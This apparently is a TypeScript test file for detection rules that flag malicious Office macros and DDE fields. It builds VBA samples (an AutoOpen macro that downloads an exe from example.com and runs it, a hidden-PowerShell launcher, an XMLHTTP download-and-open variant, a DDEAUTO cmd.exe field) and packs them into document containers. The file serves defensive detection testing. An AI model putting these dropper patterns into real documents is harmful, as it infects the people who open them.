import { compound } from "../fixtures/archives.ts";
import { deflated, zip } from "../fixtures/zip-writer.ts";
import { checkRule } from "./check-rule.ts";

const module = 'Attribute VB_Name = "ThisDocument"\r\n';
const download = [
  `${module}Private Declare Function URLDown`,
  'loadToFile Lib "urlmon" Alias "URLDown',
  'loadToFileA" ()\r\nSub Auto',
  "Open()\r\nURLDown",
  'loadToFile 0, "http://example.com/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\r\nShell Environ("TEMP") & "\\a.exe"\r\nEnd Sub\r\n',
];
const powershell = [
  `${module}Sub Work`,
  'book_Open()\r\nCreateObject("WScr',
  'ipt.Shell").Run "power',
  "shell -w hid",
  'den -c calc", 0\r\nEnd Sub\r\n',
];

/** In a document, compressed: literals only, eight of them behind each byte of flags. */
function macro(source: readonly string[]): Buffer {
  const text = Buffer.from(source.join(""), "latin1");
  const chunks: Buffer[] = [Buffer.of(1)];
  for (let at = 0; at < text.length; at += 3600) {
    const part = text.subarray(at, at + 3600);
    const groups = Array.from({ length: Math.ceil(part.length / 8) }, (_, index) =>
      Buffer.concat([Buffer.of(0), part.subarray(index * 8, index * 8 + 8)]),
    );
    const body = Buffer.concat(groups);
    const header = Buffer.alloc(2);
    header.writeUInt16LE(0xb000 | (body.length - 1));
    chunks.push(header, body);
  }
  return compound("ThisDocument", Buffer.concat(chunks));
}

checkRule("Office_Macro_Downloads_And_Runs", {
  matches: {
    "the source": download,
    "an old document": macro(download),
    "a new document": zip([deflated("word/vbaProject.bin", macro(download))]),
    "another way to download": [
      `${module}Sub Document`,
      '_Open()\r\nSet h = CreateObject("MSXML2.XML',
      'HTTP")\r\nh.Open "GET", u, False\r\nCreateObject("Shell.Appli',
      'cation").Open p\r\nEnd Sub\r\n',
    ],
  },
  misses: {
    "a macro that must be started by hand": [download.join("").replace("AutoO" + "pen", "ImportPrices")],
    "a macro that fetches prices": [
      `${module}Sub Work`,
      'book_Open()\r\nSet h = CreateObject("MSXML2.XML',
      'HTTP")\r\nCells(1, 1) = h.responseText\r\nEnd Sub',
    ],
    "a text about macros": ["A Sub Auto", "Open() that calls URLDown", "loadToFile and Shell ( is suspicious."],
  },
});

checkRule("Office_Macro_Runs_PowerShell", {
  matches: { "the source": powershell, "a workbook": zip([deflated("xl/vbaProject.bin", macro(powershell))]) },
  misses: {
    "a macro that opens a program": [
      `${module}Sub Work`,
      `book_Open()\r\nShell "notepad.exe", vbNormalFocus\r\nEnd Sub`,
    ],
    "one that mentions it": [`${module}Sub Work`, `book_Open()\r\n' not with powershell\r\nMsgBox "hello"\r\nEnd Sub`],
  },
});

checkRule("Office_Field_Runs_Command", {
  matches: {
    "a document": zip([
      deflated(
        "word/document.xml",
        Buffer.from(
          ["<w:instrText>DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd", '.exe "/k calc"</w:instrText>'].join(""),
        ),
      ),
    ]),
  },
  misses: {
    "a field with a date": ["<w:instrText>DATE \\@ cmd</w:instrText>"],
    "a link to a sheet": ['<w:instrText>DDEAUTO Excel "Book1" "R1C1"</w:instrText>'],
  },
});
